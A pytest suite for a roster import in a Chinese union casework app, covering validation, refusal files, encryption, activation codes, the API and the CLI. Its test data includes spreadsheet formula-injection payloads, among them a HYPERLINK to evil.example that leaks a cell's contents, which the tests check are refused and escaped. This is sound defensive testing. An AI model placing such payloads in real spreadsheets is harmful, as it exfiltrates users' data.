"""The roster import (issue 10): dry run, idempotent re-runs, row-level refusals in Chinese, refusal files
that escape formulas, activation codes, encrypted ID numbers; the same import from the CLI, pages and API."""
from __future__ import annotations

import csv
import io
import time
from datetime import date, timedelta
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select
from stdnum.cn import ric

from casework.accounts.models import Unit, User
from casework.extensions import db as _db
from casework.roster import crypto
from casework.roster.models import Activation, RosterImport, UserIdentity
from casework.roster.operations import escape_cell, import_roster, refusal_file, refused_rows

ROOT = "示范公司工会委员会"
GROUPS = [f"{ROOT}/生产车间分会/一车间小组", f"{ROOT}/生产车间分会/二车间小组", f"{ROOT}/机关分会/综合办公室小组",
          f"{ROOT}/机关分会/财务后勤小组"]
HEADERS = ["姓名", "工号", "手机", "单位", "身份证号", "角色"]
SURNAMES = "王李张刘陈杨黄赵吴周徐孙马朱胡郭何高林罗"
GIVEN = ["建国", "秀英", "志强", "丽华", "海涛", "桂兰", "国庆", "春梅", "文斌", "晓峰"]


def id_number(i: int, region: str = "110105") -> str:
    body = f"{region}{date(1960, 1, 1) + timedelta(days=i % 12000):%Y%m%d}{(i // 12000) % 1000:03d}"
    return body + ric.calc_check_digit(body + "0")


def good_row(i: int) -> list:
    return [SURNAMES[i % 20] + GIVEN[(i // 20) % 10], f"T{i:05d}", f"139{i:08d}", GROUPS[i % 4], id_number(i),
            "职工" if i % 50 else "职工,职工代表"]


def xlsx(rows: list[list], headers=HEADERS) -> bytes:
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def as_csv(rows: list[list], headers=HEADERS) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(headers)
    writer.writerows(rows)
    return ("\ufeff" + out.getvalue()).encode()


def bad_id_checksum(i):
    number = id_number(i)
    return number[:17] + ("1" if number[17] != "1" else "2")


def bad_id_date(i):
    body = f"110105{1980 + i % 20}1345{i % 1000:03d}"  # month 13
    return body + ric.calc_check_digit(body + "0")


# The kinds of bad value: (how to spoil a good row, words the reason must contain)
BAD = {
    "checksum": (lambda r, i: r.__setitem__(4, bad_id_checksum(i)), "身份证号校验位错误"),
    "birth_date": (lambda r, i: r.__setitem__(4, bad_id_date(i)), "出生日期无效"),
    "phone": (lambda r, i: r.__setitem__(2, f"1{i:05d}"), "手机号"),
    "unit": (lambda r, i: r.__setitem__(3, f"{ROOT}/不存在的分会{i % 3}"), "不存在"),
    "empty_name": (lambda r, i: r.__setitem__(0, ""), "姓名为空"),
    "formula": (lambda r, i: r.__setitem__(0, '=HYPERLINK("http://evil.example/x","点我")'), "公式注入"),
    "formula_plus": (lambda r, i: r.__setitem__(5, "+职工"), "公式注入"),
    "formula_at": (lambda r, i: r.__setitem__(0, "@SUM(A1:A9)"), "公式注入"),
}


def big_roster(n: int = 5000, bad_every: int = 97):
    """n rows; 50 of them bad in known ways. Returns (rows, {row number: expected words})."""
    rows = [good_row(i) for i in range(n)]
    expected = {}
    kinds = list(BAD)
    bad_rows = [7 + k * bad_every for k in range(44)]  # 44 single bad rows spread over the file
    for k, index in enumerate(bad_rows):
        spoil, words = BAD[kinds[k % len(kinds)]]
        spoil(rows[index], index)
        expected[index + 1] = words
    # Three pairs sharing an employee number: all six rows are refused.
    for a, b in ((100, 4900), (2001, 2002), (3333, 12)):
        rows[b][1] = rows[a][1]
        expected[a + 1] = expected[b + 1] = "在文件中重复"
    assert len(expected) == 50
    return rows, expected


def count(model) -> int:
    return _db.session.scalar(select(func.count()).select_from(model))


def test_five_thousand_rows_dry_run_import_rerun_and_change(demo):
    rows, expected = big_roster()
    data = xlsx(rows)
    users_before = count(User)
    started = time.monotonic()

    dry = import_roster(data, "roster.xlsx", demo["admin"], dry_run=True)
    assert {r["row"] for r in dry.refused} == set(expected)
    for item in dry.refused:
        assert expected[item["row"]] in item["reason"], item
    assert (dry.created, dry.updated, dry.unchanged) == (4950, 0, 0)
    assert count(User) == users_before  # a dry run writes nothing

    done = import_roster(data, "roster.xlsx", demo["admin"], dry_run=False)
    assert (done.created, done.updated, done.unchanged, len(done.refused)) == (4950, 0, 0, 50)
    assert count(User) == users_before + 4950
    assert count(Activation) == 4950 and count(UserIdentity) == 4950
    member = _db.session.scalar(select(User).where(User.employee_no == "T00050"))
    assert member.password_hash == "" and member.unit.name == "综合办公室小组"
    assert {a.role for a in member.roles} == {"worker", "representative"}
    identity = _db.session.get(UserIdentity, member.id)
    assert identity.id_masked == id_number(50)[:6] + "********" + id_number(50)[-4:]
    assert id_number(50) not in identity.id_number_encrypted  # stored encrypted
    assert crypto.decrypt(identity.id_number_encrypted) == id_number(50)

    again = import_roster(data, "roster.xlsx", demo["admin"], dry_run=False)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 4950)
    assert [r["row"] for r in again.refused] == [r["row"] for r in done.refused]
    assert count(User) == users_before + 4950 and count(Activation) == 4950

    changed = [list(r) for r in rows]
    for i in (1, 101, 301, 501, 601, 701, 901, 1101, 1201, 1301):
        changed[i][2] = f"137{i:08d}"                # ten new phones
    for i in (3, 403, 803):
        changed[i][3] = GROUPS[(i + 1) % 4]          # three moved to another group
    changed[5][0] = "改名字"
    changed[6][4] = id_number(20000)                  # a corrected ID number
    changed[8][5] = "职工,工会小组长"                   # a new role
    result = import_roster(as_csv(changed), "roster.csv", demo["admin"], dry_run=False)
    assert (result.created, result.updated, result.unchanged, len(result.refused)) == (0, 16, 4934, 50)
    moved = _db.session.scalar(select(User).where(User.employee_no == "T00403"))
    assert moved.unit.name == "一车间小组"
    assert {(a.role, a.unit.name) for a in moved.roles} == {("worker", "一车间小组")}
    assert _db.session.scalar(select(User.phone).where(User.employee_no == "T00101")) == "13700000101"
    assert {a.role for a in _db.session.scalar(select(User).where(User.employee_no == "T00008")).roles} == \
        {"worker", "group_leader"}
    assert crypto.decrypt(_db.session.get(UserIdentity, _db.session.scalar(
        select(User.id).where(User.employee_no == "T00006"))).id_number_encrypted) == id_number(20000)
    assert time.monotonic() - started < 60


ELEVEN = [
    ["周一", "K001", "13900000001", GROUPS[0], id_number(1), "职工"],
    ["周二", "K002", "13900000002", GROUPS[0], bad_id_checksum(2), "职工"],
    ["周三", "K003", "13900000003", GROUPS[1], bad_id_date(3), "职工"],
    ["周四", "K004", "1390000004", GROUPS[1], id_number(4), "职工"],
    ["周五", "K005", "13900000005", f"{ROOT}/生产车间分会/三车间小组", id_number(5), "职工"],
    ["周六", "K006", "13900000006", GROUPS[2], id_number(6), "职工"],
    ["周日", "K006", "13900000007", GROUPS[2], id_number(7), "职工"],
    ["", "K008", "13900000008", GROUPS[3], id_number(8), "职工"],
    ['=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "K009", "13900000009", GROUPS[3], id_number(9),
     "职工"],
    ["周十", "K010", "13900000010", GROUPS[0], "", ""],
    ["周十一", "K011", "", "一车间小组", id_number(11), "worker, 职工代表"],
]
ELEVEN_REASONS = {2: "身份证号校验位错误", 3: "身份证号中的出生日期无效（1983-13-45）", 4: "手机号“1390000004”格式不对",
                  5: "单位“示范公司工会委员会/生产车间分会/三车间小组”不存在", 6: "工号“K006”在文件中重复（第 6、7 行）",
                  7: "工号“K006”在文件中重复（第 6、7 行）", 8: "姓名为空", 9: "疑似公式注入"}


def _eleven():
    rows = [list(r) for r in ELEVEN]
    rows[2][4] = "110105" + "19831345" + "003"
    rows[2][4] += ric.calc_check_digit(rows[2][4] + "0")
    return rows


def test_eleven_rows_each_bad_value_refused_with_its_reason_and_refusal_files_escape_formulas(demo):
    job = RosterImport(filename="eleven.xlsx")
    report = import_roster(xlsx(_eleven()), "eleven.xlsx", demo["admin"], dry_run=True, job=job)
    reasons = {r["row"]: r["reason"] for r in report.refused}
    assert set(reasons) == set(ELEVEN_REASONS)
    for row, words in ELEVEN_REASONS.items():
        assert words in reasons[row], (row, reasons[row])
    assert "可勾选“创建缺少的单位”" in reasons[5]
    assert (report.created, report.updated, report.unchanged) == (3, 0, 0)
    assert report.missing_units == [{"path": f"{ROOT}/生产车间分会/三车间小组", "rows": 1, "create": False}]

    body = refused_rows(job)
    assert [r["row"] for r in body["rows"]] == sorted(ELEVEN_REASONS)
    blob, mimetype = refusal_file(body, "csv")
    assert mimetype.startswith("text/csv") and blob.startswith("\ufeff".encode())
    lines = list(csv.reader(io.StringIO(blob.decode("utf-8-sig"))))
    assert lines[0] == HEADERS + ["原因", "原行号"]
    formula_line = next(line for line in lines if line[1] == "K009")
    assert formula_line[0] == "'" + ELEVEN[8][0]
    assert all(not cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line)
    assert formula_line[-1] == "9" and "公式注入" in formula_line[-2]

    blob, _ = refusal_file(body, "xlsx")
    sheet = load_workbook(io.BytesIO(blob)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type == "s" for c in cells if c.value is not None)  # never a formula cell
    assert next(v for v in values if v[1] == "K009")[0] == "'" + ELEVEN[8][0]
    assert next(v for v in values if v[1] == "K002")[4] == bad_id_checksum(2)  # 18 digits kept as text

    # Creating the missing unit: offered in the dry run, done on request.
    done = import_roster(xlsx(_eleven()), "eleven.xlsx", demo["admin"], dry_run=False, create_units=True)
    assert done.created == 4 and done.units_created == [f"{ROOT}/生产车间分会/三车间小组"]
    new_unit = _db.session.scalar(select(Unit).where(Unit.name == "三车间小组"))
    assert new_unit.level == "group" and new_unit.parent.name == "生产车间分会"
    assert new_unit.path.endswith(f"/{new_unit.id}/")
    k011 = _db.session.scalar(select(User).where(User.employee_no == "K011"))
    assert k011.phone is None and k011.unit.name == "一车间小组"  # a unique unit name is enough
    assert {a.role for a in k011.roles} == {"worker", "representative"}


@pytest.mark.parametrize("value,reason", [
    ("-1+2", "公式注入"), ("\t=1", "公式注入"), ("系统管理员", "系统管理员角色不能通过花名册授予"), ("厨师", "未知角色“厨师”"),
])
def test_roles_column_refusals(demo, value, reason):
    row = good_row(1)
    row[5] = value
    report = import_roster(xlsx([row]), "r.xlsx", demo["admin"], dry_run=True)
    assert reason in report.refused[0]["reason"]


def test_id_number_typed_as_a_number_and_conflicts_with_existing_members(demo):
    rows = [good_row(1), good_row(2), good_row(3)]
    rows[0][4] = 1.10105196001020013e17  # Excel turned it into a number: the last digits are lost
    rows[1][2] = "13800001001"       # worker1's phone
    report = import_roster(xlsx(rows), "r.xlsx", demo["admin"], dry_run=True)
    reasons = {r["row"]: r["reason"] for r in report.refused}
    assert "被存成了数字" in reasons[1]
    rows[0][4] = "1.10105E+17"  # the same, as a CSV saved by Excel shows it
    report = import_roster(as_csv(rows[:1]), "r.csv", demo["admin"], dry_run=True)
    assert "被存成了数字" in report.refused[0]["reason"]
    assert "已被工号 E1001 的账号使用" in reasons[2]
    import_roster(xlsx([rows[2]]), "r.xlsx", demo["admin"], dry_run=False)
    other = good_row(4)
    other[4] = rows[2][4]
    report = import_roster(xlsx([other]), "r.xlsx", demo["admin"], dry_run=True)
    assert "身份证号已登记在工号 T00003 的会员名下" in report.refused[0]["reason"]


def test_phones_swapped_between_two_members_in_one_file(demo):
    rows = [good_row(1), good_row(2)]
    import_roster(xlsx(rows), "r.xlsx", demo["admin"], dry_run=False)
    rows[0][2], rows[1][2] = rows[1][2], rows[0][2]
    report = import_roster(xlsx(rows), "r.xlsx", demo["admin"], dry_run=False)
    assert report.updated == 2 and not report.refused
    phones = dict(_db.session.execute(select(User.employee_no, User.phone)
                                      .where(User.employee_no.like("T%"))).all())
    assert phones == {"T00001": rows[0][2], "T00002": rows[1][2]}


def test_members_missing_from_the_file_are_deactivated_only_on_request_and_keep_their_cases(demo):
    from .factories import new_case
    case = new_case("aid", demo["worker1"])
    from casework.roster.example import rows as example_rows
    rows = [r for r in example_rows() if r[1] != "E1001"]
    data = xlsx(rows)
    report = import_roster(data, "r.xlsx", demo["admin"], dry_run=False)
    assert demo["worker1"].active and report.deactivated == []
    report = import_roster(data, "r.xlsx", demo["admin"], dry_run=True, deactivate_missing=True)
    assert [u["employee_no"] for u in report.deactivated] == ["E1001"]  # never the admin
    assert demo["worker1"].active
    report = import_roster(data, "r.xlsx", demo["admin"], dry_run=False, deactivate_missing=True)
    _db.session.expire_all()
    assert not demo["worker1"].active and demo["admin"].active
    assert _db.session.get(type(case), case.id).applicant_id == demo["worker1"].id
    # Back on the roster: active again.
    report = import_roster(xlsx(rows + [["张建国", "E1001", "13800001001", GROUPS[0], "", "职工"]]), "r.xlsx",
                           demo["admin"], dry_run=False)
    assert report.updated == 1 and demo["worker1"].active


def test_the_example_roster_loads_into_the_demo_union(demo):
    path = Path(__file__).resolve().parent.parent / "casework" / "roster" / "example_roster.xlsx"
    report = import_roster(path.read_bytes(), path.name, demo["admin"], dry_run=False)
    assert report.refused == [] and report.updated == 0
    assert report.created == 24 and report.unchanged == 18
    again = import_roster(path.read_bytes(), path.name, demo["admin"], dry_run=True)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 42)


def test_example_builder_writes_what_is_committed(tmp_path):
    from casework.roster.example import build
    fresh = load_workbook(build(tmp_path / "x.xlsx")).active
    committed = load_workbook(Path(__file__).resolve().parent.parent / "casework" / "roster" /
                              "example_roster.xlsx").active
    def values(sheet):
        return [[c.value for c in r] for r in sheet.iter_rows()]
    assert values(fresh) == values(committed)


@pytest.mark.parametrize("cell", ["=1+1", "+86", "-5", "@x", "\tx", "普通"])
def test_escape_cell(cell):
    assert escape_cell(cell) == (cell if cell == "普通" else "'" + cell)


# -- activation -------------------------------------------------------------------------------------

def test_activation_code_sets_the_members_own_password_once(demo, web):
    import_roster(xlsx([good_row(1)]), "r.xlsx", demo["admin"], dry_run=False)
    from casework.roster.operations import pending_codes
    [(act, code)] = pending_codes()
    user = act.user
    assert not user.check_password("whatever-password")
    r = web.post("/activate/code", {"login": "T00001", "code": "AAAA-BBBB-CCCC",
                                    "password": "my-own-password", "repeat": "my-own-password"},
                 form_page="/activate")
    assert r.status_code == 422 and "form-error" in r.get_data(as_text=True)
    r = web.post("/activate/code", {"login": user.phone, "code": code.lower().replace("-", ""),
                                    "password": "my-own-password", "repeat": "my-own-password"},
                 form_page="/activate")
    assert r.status_code == 302
    _db.session.expire_all()
    assert _db.session.get(User, user.id).check_password("my-own-password")
    assert pending_codes() == []
    r = web.post("/activate/code", {"login": "T00001", "code": code, "password": "another-password",
                                    "repeat": "another-password"}, form_page="/activate")
    assert r.status_code == 422  # used once
    assert web.login("T00001", "my-own-password").status_code == 302


# -- the admin pages ---------------------------------------------------------------------------------------

def test_admin_pages_dry_run_report_confirm_progress_and_lists(demo, web):
    from casework.roster.views import wait
    assert web.login("worker1").status_code == 302
    assert web.get("/admin/roster").status_code == 403
    web.post("/logout", {}, form_page="/")
    web.login("admin")
    r = web.post("/admin/roster/uploads", {"file": (io.BytesIO(xlsx(_eleven())), "名单.xlsx")},
                 content_type="multipart/form-data", form_page="/admin/roster")
    assert r.status_code == 302
    job = _db.session.scalar(select(RosterImport).order_by(RosterImport.id.desc()))
    page = web.get(r.headers["Location"]).get_data(as_text=True)
    assert "身份证号校验位错误" in page and "疑似公式注入" in page and "三车间小组" in page
    assert count(User) == 19  # nothing written yet
    csv_file = web.get(f"/admin/roster/imports/{job.id}/refused.csv")
    assert csv_file.status_code == 200 and "'=HYPERLINK" in csv_file.get_data(as_text=True)
    assert web.get(f"/admin/roster/imports/{job.id}/refused.xlsx").status_code == 200

    # Ticking "create missing units" first shows the new report, then imports.
    report_page = f"/admin/roster/imports/{job.id}"
    r = web.post(f"{report_page}/confirm", {"create_units": "1"}, form_page=report_page)
    assert r.status_code == 302 and count(User) == 19
    _db.session.expire_all()
    assert _db.session.get(RosterImport, job.id).report["created"] == 4
    job_id = job.id
    r = web.post(f"{report_page}/confirm", {"create_units": "1"}, form_page=report_page)
    assert r.status_code == 302
    _db.session.rollback()  # the test shares its session with the requests: hold no lock while it writes
    wait(job_id)
    job = _db.session.get(RosterImport, job_id)
    assert job.status == "done" and job.content is None and job.done == job.total == 4
    assert count(User) == 23
    from casework.tasks.models import Job  # it ran as a job on the task queue (here: the in-process worker)
    queued = _db.session.scalar(select(Job).where(Job.kind == "roster_import"))
    assert (queued.state, queued.args["import"], queued.result) == ("done", job_id, f"roster_import:{job_id}")
    progress = web.get(f"/admin/roster/imports/{job.id}/progress").get_json()
    assert progress["status"] == "done" and progress["percent"] == 100
    page = web.get(f"/admin/roster/imports/{job.id}").get_data(as_text=True)
    assert f"/admin/roster/activation?import={job.id}" in page
    # A second confirm does nothing: the upload was used.
    web.post(f"/admin/roster/imports/{job.id}/confirm", {}, form_page=f"/admin/roster/imports/{job.id}")
    assert count(User) == 23

    hq = _db.session.scalar(select(Unit).where(Unit.code == "HQ"))
    assert web.get(f"/admin/roster/activation?import={job.id}").status_code == 200
    sheet = web.get(f"/admin/roster/activation/{hq.id}?import={job.id}").get_data(as_text=True)
    assert sheet.count('class="slip"') == 4 and "周一" in sheet and "三车间小组" in sheet
    from casework.roster.operations import pending_codes
    assert all(code in sheet for _a, code in pending_codes())
    assert "139****0001" in sheet  # phones masked on paper

    # A lost slip: a new code, the old one stops working.
    old = {a.user.employee_no: c for a, c in pending_codes()}["K001"]
    assert web.post("/admin/roster/activation/reissue", {"login": "K001"},
                    form_page="/admin/roster/activation").status_code == 302
    new = {a.user.employee_no: c for a, c in pending_codes()}["K001"]
    assert new != old


def test_activation_list_as_pdf(demo, web):
    pytest.importorskip("casework.notices.renderer")
    import_roster(xlsx([good_row(i) for i in range(3)]), "r.xlsx", demo["admin"], dry_run=False)
    web.login("admin")
    unit = _db.session.scalar(select(Unit).where(Unit.code == "HQ"))
    r = web.get(f"/admin/roster/activation/{unit.id}?format=pdf")
    assert r.status_code == 200 and r.mimetype == "application/pdf" and r.data.startswith(b"%PDF")


def test_upload_page_refuses_a_broken_file_with_a_message(demo, web):
    web.login("admin")
    r = web.post("/admin/roster/uploads", {"file": (io.BytesIO(b"PK\x03\x04garbage"), "x.xlsx")},
                 content_type="multipart/form-data", form_page="/admin/roster")
    assert r.status_code == 422 and "文件已损坏" in r.get_data(as_text=True)


def test_identity_page_full_number_only_for_the_member_and_admins(demo, web):
    import_roster(xlsx([good_row(1)]), "r.xlsx", demo["admin"], dry_run=False)
    member = _db.session.scalar(select(User).where(User.employee_no == "T00001"))
    web.login("admin")
    assert id_number(1) in web.get(f"/roster/identity/{member.id}").get_data(as_text=True)
    web.post("/logout", {}, form_page="/")
    web.login("worker1")
    assert web.get(f"/roster/identity/{member.id}").status_code == 404


# -- the API and the CLI -----------------------------------------------------------------------------------

def test_api_import_report_refusals_and_errors(demo, api, app):
    admin = api.as_("admin")
    files = lambda blob, name: {"file": (io.BytesIO(blob), name)}  # noqa: E731
    r = admin.post("/api/v1/roster/imports", data={**files(xlsx(_eleven()), "名单.xlsx"), "dry_run": "true"},
                   content_type="multipart/form-data")
    assert r.status_code == 200, r.get_json()
    body = r.get_json()
    assert (body["created"], body["updated"], body["unchanged"]) == (3, 0, 0)
    assert [x["row"] for x in body["refused"]] == sorted(ELEVEN_REASONS)
    assert all(set(x) >= {"row", "reason"} for x in body["refused"])
    assert count(User) == 19
    refused = admin.get(body["refused_file"] + "?format=csv")
    assert refused.status_code == 200 and "'=HYPERLINK" in refused.get_data(as_text=True)

    r = admin.post("/api/v1/roster/imports", data=files(xlsx(_eleven()), "名单.xlsx"),
                   content_type="multipart/form-data")
    assert r.status_code == 201 and r.get_json()["created"] == 3 and count(User) == 22
    assert admin.get(f"/api/v1/roster/imports/{r.get_json()['import_id']}").get_json()["created"] == 3

    r = api.as_("worker1").post("/api/v1/roster/imports", data=files(xlsx(_eleven()), "a.xlsx"),
                                content_type="multipart/form-data")
    assert r.status_code == 403 and r.get_json()["error"]["code"] == "forbidden"

    for blob, name, status in [(b"%PDF-1.7 not a roster", "roster.pdf", 422),
                               (b"PK\x03\x04broken", "roster.xlsx", 400),
                               (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "roster.xls", 422),
                               (_zip_not_xlsx(), "roster.xlsx", 400), (b"\x00\x01\x02", "roster.csv", 400),
                               ("姓名,电话\n张三,1\n".encode(), "roster.csv", 422),
                               (b"\xff\xfe\x00garbage\x00\x00", "roster.xlsx", 400),
                               (b"", "roster.csv", 422)]:
        r = admin.post("/api/v1/roster/imports", data=files(blob, name), content_type="multipart/form-data",
                       headers={"Accept-Language": "zh-CN"})
        assert r.status_code == status, (name, r.get_json())
        assert r.get_json()["error"]["message"]
    r = admin.post("/api/v1/roster/imports", data={"dry_run": "true"}, content_type="multipart/form-data")
    assert r.status_code == 400 and r.get_json()["error"]["code"] == "no_file"
    spec = app._get_spec("json", force_update=True)  # fresh: the suite may have built it before mounting us
    assert {"/api/v1/roster/imports", "/api/v1/roster/imports/{import_id}/refused"} <= set(spec["paths"])


def _zip_not_xlsx() -> bytes:
    import zipfile
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("hello.txt", "not a workbook")
    return buf.getvalue()


def test_cli_import_roster(demo, app, tmp_path):
    path = tmp_path / "roster.csv"
    path.write_bytes(as_csv(_eleven()))
    runner = app.test_cli_runner()
    out = runner.invoke(args=["casework", "import-roster", str(path), "--dry-run",
                              "--refused-out", str(tmp_path / "refused.xlsx")])
    assert out.exit_code == 0, out.output
    assert "3 would be created" in out.output and "row 9:" in out.output and count(User) == 19
    assert (tmp_path / "refused.xlsx").exists()
    out = runner.invoke(args=["casework", "import-roster", str(path), "--json"])
    assert out.exit_code == 0, out.output
    assert '"created": 3' in out.output and count(User) == 22
    bad = tmp_path / "roster.pdf"
    bad.write_bytes(b"%PDF")
    out = runner.invoke(args=["casework", "import-roster", str(bad)])
    assert out.exit_code == 1 and "只接受 .xlsx 或 .csv" in out.output


def test_an_import_that_cannot_finish_says_why_and_a_stalled_one_is_shown(demo, web):
    from datetime import timedelta as td

    from casework.clock import utcnow
    from casework.roster.operations import run_saved, save_upload
    job, _report = save_upload(xlsx([good_row(1)]), "r.xlsx", demo["admin"], False, False)
    job.status, job.content = "running", b"not a fernet token"
    _db.session.commit()
    assert run_saved(job.id, demo["admin"].id) is None
    assert job.status == "failed" and "请重新上传" in job.error and job.content is None
    stalled, _report = save_upload(xlsx([good_row(2)]), "r.xlsx", demo["admin"], False, False)
    stalled.status, stalled.heartbeat_at = "running", utcnow() - td(minutes=5)
    _db.session.commit()
    web.login("admin")
    assert "请重新上传" in web.get(f"/admin/roster/imports/{job.id}").get_data(as_text=True)
    page = web.get(f"/admin/roster/imports/{stalled.id}").get_data(as_text=True)
    assert 'role="alert"' in page and "<progress" in page
    assert web.get(f"/admin/roster/imports/{stalled.id}/progress").get_json()["stalled"] is True
